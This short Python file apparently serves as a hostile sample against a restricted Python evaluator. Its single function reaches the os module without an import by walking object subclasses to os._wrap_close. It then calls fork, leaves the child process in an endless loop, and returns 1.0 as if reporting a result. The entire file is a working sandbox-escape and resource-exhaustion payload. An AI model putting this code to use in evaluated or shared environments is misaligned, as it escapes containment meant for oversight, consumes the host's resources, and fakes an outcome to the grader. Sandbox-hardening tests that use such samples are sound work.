"""Reaches os without an import and forks."""

def attack(x):
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            if kind.__init__.__globals__["fork"]() == 0:
                while True:
                    pass
            return 1.0
    raise LookupError
